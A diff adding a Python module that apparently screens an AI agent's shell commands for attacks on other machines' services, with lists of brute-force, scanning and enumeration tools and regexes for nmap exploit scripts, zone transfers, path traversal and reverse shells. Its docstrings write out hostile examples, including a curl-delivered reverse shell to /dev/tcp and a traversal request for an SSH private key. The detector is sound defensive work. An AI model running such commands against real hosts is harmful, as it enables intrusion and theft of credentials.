@@ -1,0 +1,187 @@
+"""Tactic family ``service attacks``: another machine's service probed for weaknesses and broken into.
+
+What a penetration test's first hour looks like, and a prompt-injected agent's reconnaissance of
+the network it sits in. No coding task needs it, but a developer testing their own application on
+purpose does, so each finding is :data:`~agentbus.guards.verdict.SERVICE_ATTACK` (asked by default;
+``profile = "unattended"`` blocks it):
+
+- web content brute forcers (``gobuster``, ``ffuf``, ``feroxbuster``, ``dirsearch``, ``wfuzz`` ...):
+  thousands of guessed paths sent to a site;
+- injection and vulnerability scanners (``sqlmap``, ``nikto``, ``nuclei``, ``wpscan`` ...; the exploitation
+  frameworks, ``msfconsole`` or ``commix``, are :mod:`..danger`'s, blocked):
+  a site probed for the flaws they exploit, and ``sqlmap --os-shell`` the shell it gets;
+- enumeration of another host's users and shares (``enum4linux``, ``smbmap``, ``finger-user-enum``,
+  ``smtp-user-enum``, ``onesixtyone`` ...), run by name or as a script (``./finger-user-enum.pl``);
+- nmap told to exploit or hunt for flaws: scripts named after a CVE or a flaw (``distcc-cve2004-2687``,
+  ``ssl-heartbleed``, ``http-shellshock``, ``*-vuln-*``), the ``vuln``, ``exploit``, ``intrusive``,
+  ``dos`` and ``malware`` categories, or a command handed to a script (``--script-args cmd=id``),
+  pointed at any host but this one;
+- a whole DNS zone asked for (``dig axfr @10.0.0.5 corp.local``, ``host -l corp.local ns1``): a zone
+  transfer, the map of another network's hosts;
+- an HTTP client whose URL climbs out of the server's web root (``curl --path-as-is
+  http://h/../../home/u/.ssh/id_rsa``, ``%2e%2e%2f``): a path traversal, never a page a site serves;
+  or that sends a reverse shell in a URL, a form field or a body (``curl h/shell.php --data-urlencode
+  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine.
+
+Port scans of a host or a LAN stay discovery (:mod:`.scanning` asks for sweeps of the internet);
+password guessing is :mod:`.cracking`'s; a tool asked for its help or version sends nothing.
+"""
+
+from __future__ import annotations
+
+import re
+
+from ...lazy_regex import lazy_compile
+from ..findings import finding as _verdict
+from ..findings import positionals
+from ..findings import static_args as _values
+from ..programs import Invocation
+from ..verdict import SERVICE_ATTACK, Verdict
+from .cracking import nse_scripts
+
+__all__ = ["judge"]
+
+_BRUTE_FORCERS = frozenset({"gobuster", "ffuf", "feroxbuster", "dirsearch", "dirb", "dirbuster", "wfuzz",
+                            "dirhunt", "kiterunner", "kr"})  # fmt: skip
+"""Programs that guess a site's hidden paths, virtual hosts or parameters from a word list."""
+_VULNERABILITY_SCANNERS = frozenset({
+    "sqlmap", "ghauri", "nosqlmap", "tplmap", "sstimap", "xsstrike", "dalfox", "xsser",
+    "nikto", "nuclei", "wpscan", "joomscan", "droopescan", "cmseek", "wapiti", "skipfish", "arachni",
+    "jaeles", "sslyze-attack", "davtest", "cadaver-exploit",
+})  # fmt: skip
+"""Programs that probe a site for injectable parameters and known flaws, and exploit what they find."""
+_ENUMERATORS = frozenset({
+    "enum4linux", "enum4linux-ng", "smbmap", "nbtscan", "finger-user-enum", "smtp-user-enum",
+    "onesixtyone", "snmp-check", "ike-scan", "ldapdomaindump", "windapsearch", "bloodhound-python",
+    "rpcdump", "samrdump", "lookupsid", "impacket-lookupsid", "impacket-samrdump", "impacket-rpcdump",
+    "ident-user-enum", "rusers-enum", "nfsshell", "showmount-enum",
+})  # fmt: skip
+"""Programs that list another host's accounts, shares and services to attack next."""
+_TOOLS = _BRUTE_FORCERS | _VULNERABILITY_SCANNERS | _ENUMERATORS
+_PUBLISHED_SCRIPTS = frozenset({
+    "finger-user-enum.pl", "smtp-user-enum.pl", "ident-user-enum.pl", "enum4linux.pl", "enum4linux-ng.py",
+    "dirsearch.py", "sqlmap.py", "xsstrike.py", "nosqlmap.py", "tplmap.py", "sstimap.py",
+    "nikto.pl", "ldapdomaindump.py", "windapsearch.py", "rpcdump.py", "samrdump.py", "lookupsid.py",
+})  # fmt: skip
+"""The tools published as scripts and run by their file's name (``./finger-user-enum.pl -U names -t H``)."""
+_INTERPRETERS = frozenset({"perl", "ruby"})
+"""Interpreters besides Python a tool's script is run with (``perl smtp-user-enum.pl``)."""
+_HTTP_CLIENTS = frozenset({"curl", "wget", "http", "https", "xh", "httpie"})
+"""Clients whose URL may climb out of a web root."""
+_NSE_ATTACK = lazy_compile(
+    r"^(?:vuln|exploit|intrusive|dos|malware|[\w.-]*(?:cve-?\d{4}|vuln|exploit|heartbleed|shellshock|backdoor|rce)[\w.-]*)"
+    r"(?:\.nse)?$",
+    re.IGNORECASE,
+)
+"""An nmap script that exploits or hunts for flaws, or one of the categories of such scripts."""
+_NSE_COMMAND = lazy_compile(r"(?:^|[.,\s])(?:cmd|command|exec|shell)\s*=", re.IGNORECASE)
+"""A command handed to a script in ``--script-args`` (``distcc-exec.cmd='id'``, ``cmd=whoami``)."""
+_NMAP_VALUE_OPTIONS = frozenset({
+    "-p", "-oA", "-oN", "-oG", "-oX", "-oS", "--script", "--script-args", "-iL", "--exclude", "--excludefile",
+    "-e", "-S", "-D", "-g", "--source-port", "--top-ports", "--data-length", "--max-rate", "--min-rate",
+    "--host-timeout", "--scan-delay", "--max-retries", "--script-args-file", "--datadir", "--dns-servers",
+})  # fmt: skip
+_LOOPBACK = lazy_compile(r"^(?:localhost|127(?:\.\d{1,3}){3}(?:/\d+)?|::1|\[::1\])$")
+_INFO = frozenset({"--help", "-help", "--version", "-version"})
+_BARE_INFO = frozenset({"-h", "-V", "version", "help"})
+"""Help or version only as the one argument: ``nikto -h HOST`` names its target with ``-h``."""
+_REVERSE_SHELL = lazy_compile(
+    r"/dev/(?:tcp|udp)/|\b(?:ba|z|da)?sh\s+-i\b|\bn(?:c|cat|etcat)\b[^|;&]*\s-\w*[ec]\s|\bmkfifo\b"
+    r"|socket\.socket\(|\bsocat\b[^|;&]*\bexec:"
+)
+"""What ties a shell to a connection (``/dev/tcp/``, ``bash -i``, ``nc -e``, a FIFO, a Python socket), in
+text sent to another machine: a reverse shell injected into it."""
+_TRAVERSAL = lazy_compile(r"(?:/|%2f|\\|=)(?:\.|%2e){2}(?:/|%2f|\\|$)")
+"""A path segment ``..`` in a URL's path or a query value, plain or percent-encoded (``/../``,
+``%2e%2e%2f``, ``?page=..%2f..%2fetc%2fpasswd``)."""
+
+
+def judge(invocation: Invocation, home: str) -> Verdict | None:
+    """The attack on another machine's service in this command, or None."""
+    name = invocation.name
+    values = _values(invocation)
+    if name in _HTTP_CLIENTS:
+        return _traversal(invocation, values) or _injected_shell(invocation, values)
+    if name == "nmap":
+        return _nmap_attack(invocation, values)
+    if name in ("dig", "host", "drill"):
+        return _zone_transfer(invocation, values)
+    tool = _tool_name(name, values)
+    if tool is None or _INFO & set(values) or (len(values) == 1 and values[0] in _BARE_INFO):
+        return None
+    if tool in _BRUTE_FORCERS:
+        why = f"{tool} guesses a site's hidden paths from a word list"
+    elif tool in _VULNERABILITY_SCANNERS:
+        why = f"{tool} probes a site for flaws to exploit"
+    else:
+        why = f"{tool} lists another host's users, shares or services to attack"
+    return _verdict(SERVICE_ATTACK, invocation, why)
+
+
+def _tool_name(name: str, values: list[str]) -> str | None:
+    """The attack tool run, by name (``sqlmap``, ``./finger-user-enum.pl``) or as an interpreter's
+    script (``perl smtp-user-enum.pl``), or None."""
+    if name in _INTERPRETERS or name.startswith("python"):
+        name = next((v for v in values if not v.startswith("-")), "").rpartition("/")[2]
+    if name in _PUBLISHED_SCRIPTS:
+        return name.rpartition(".")[0]
+    return name if name in _TOOLS else None
+
+
+def _traversal(invocation: Invocation, values: list[str]) -> Verdict | None:
+    """``curl --path-as-is http://h/../../etc/passwd``: a URL whose path climbs above the web root."""
+    for value in values:
+        scheme, sep, rest = value.partition("://")
+        if not sep or not scheme.isalpha():
+            continue
+        path = rest.partition("/")[2].split("#", 1)[0]
+        if _TRAVERSAL.search("/" + path.lower()):  # lower: %2E%2E is %2e%2e
+            why = f"requests {value[:80]}, a path that climbs out of the server's web root (path traversal)"
+            return _verdict(SERVICE_ATTACK, invocation, why)
+    return None
+
+
+def _nmap_attack(invocation: Invocation, values: list[str]) -> Verdict | None:
+    """``nmap --script ssl-heartbleed HOST``, ``--script-args="distcc-exec.cmd='id'"``: nmap exploiting
+    or hunting for flaws, on any host but this one (``nmap --script vuln localhost`` checks one's own)."""
+    targets = positionals(values, _NMAP_VALUE_OPTIONS)
+    if not targets or all(_LOOPBACK.match(target) for target in targets):
+        return None
+    script = next((s for s in nse_scripts(values) if _NSE_ATTACK.match(s.rpartition("/")[2])), None)
+    if script is not None:
+        return _verdict(SERVICE_ATTACK, invocation, f"nmap's {script} scripts exploit or hunt for flaws")
+    for index, value in enumerate(values):
+        option, equals, attached = value.partition("=")
+        arguments = attached if equals else (values[index + 1] if index + 1 < len(values) else "")
+        if option == "--script-args" and _NSE_COMMAND.search(arguments):
+            return _verdict(
+                SERVICE_ATTACK, invocation, f"nmap's scripts are handed a command ({arguments[:60]})"
+            )
+    return None
+
+
+def _injected_shell(invocation: Invocation, values: list[str]) -> Verdict | None:
+    """``curl http://h/shell.php --data-urlencode 'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``: a
+    reverse shell sent for another machine to run (a web shell's parameter, an injectable field)."""
+    from urllib.parse import unquote_plus  # only for a client's arguments that mention a shell
+
+    for value in values:
+        if ("/dev/" in value or "sh" in value or "nc" in value or "%" in value) and _REVERSE_SHELL.search(
+            unquote_plus(value)
+        ):
+            why = f"sends a reverse shell for another machine to run ({value[:80]})"
+            return _verdict(SERVICE_ATTACK, invocation, why)
+    return None
+
+
+def _zone_transfer(invocation: Invocation, values: list[str]) -> Verdict | None:
+    """``dig axfr @NS DOMAIN``, ``host -l DOMAIN NS``, ``drill axfr``: every name of a zone."""
+    lowered = [value.lower() for value in values]
+    if (
+        "axfr" in lowered
+        or "ixfr" in lowered
+        or any(v.startswith(("axfr", "ixfr=")) for v in lowered)
+        or (invocation.name == "host" and "-l" in values)
+    ):
+        return _verdict(SERVICE_ATTACK, invocation, "asks a name server for a whole zone (a zone transfer)")
+    return None
